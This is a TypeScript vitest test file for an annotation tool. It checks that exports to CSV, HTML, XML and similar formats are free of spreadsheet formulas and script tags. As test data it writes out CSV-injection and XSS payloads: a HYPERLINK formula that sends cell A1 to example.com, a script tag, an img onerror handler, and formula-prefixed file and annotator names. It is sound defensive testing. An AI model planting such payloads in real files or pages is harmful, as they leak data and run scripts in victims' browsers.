import { mkdir, readdir, readFile, stat, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { parse } from 'papaparse'
import { expect, test } from 'vitest'
import { formatIds } from '../../annotations/formats/format-ids.ts'
import { formatOf } from '../../annotations/formats/formats.ts'
import { spanOf } from '../../annotations/model/span.ts'
import { appFor, tempFolder } from './temp-project.ts'

const formula = '=HYPERLINK("http://example.com/?"&A1,"اضغط")'
const script = '<script>intruder()</script>'
const text = `=1+1 ${script}\n\n${formula} قال الوزير: @SUM(A1) ]]> "><img src=x onerror=intruder()>\n`

/** What a spreadsheet takes for a formula. A number is none. */
const isFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?\d+(\.\d+)?$/.test(cell)

async function filesBelow(path: string): Promise<string[]> {
  if (!(await stat(path)).isDirectory()) return [path]
  const found = await readdir(path, { recursive: true, withFileTypes: true })
  return found.filter(one => one.isFile()).map(one => join(one.parentPath ?? one.path, one.name))
}

test('no export carries a formula into a spreadsheet or a script into a page', async () => {
  const folder = await tempFolder()
  const project = join(folder, 'project')
  const { done } = appFor(join(folder, 'home'))
  await done('project.create', { folder: project, title: '=2+2' })
  await writeFile(join(folder, '=cmd.txt'), text)
  const { imported } = await done('import.run', {
    project,
    paths: [join(folder, '=cmd.txt')],
    outlet: '@outlet',
    job: 'x',
  })
  const id = imported[0]?.id as string
  const document = await done('documents.read', { project, id })
  const spansOf = (words: string) => {
    const start = document.text.indexOf(words)
    return [spanOf(document.text, start, start + words.length)]
  }
  const put = (name: string, words: string) => ({
    kind: 'put-annotation' as const,
    annotation: { id: name, label: 'cue', spans: spansOf(words), attributes: {} },
  })
  await done('sets.save', {
    project,
    documentId: id,
    annotator: '=ليلى',
    revision: 0,
    actions: [{ changes: [put('a1', formula), put('a2', '@SUM(A1)'), put('a3', script)] }],
  })
  await mkdir(join(folder, 'out'))
  for (const format of formatIds) {
    const out = join(folder, 'out', `${format}${formatOf(format).extension}`)
    await done('export.run', { project, job: 'x', format, out, lossy: true })
    for (const file of await filesBelow(out)) {
      const written = await readFile(file, 'utf8')
      if (file.endsWith('.csv'))
        for (const cell of parse<string[]>(written).data.flat())
          expect([file, cell, isFormula(cell)]).toEqual([file, cell, false])
      if (/\.(x?html?|xml|xmi|tei|graphml|svg)$/.test(file))
        expect([file, /<script|<img/i.test(written)]).toEqual([file, false])
    }
  }
})
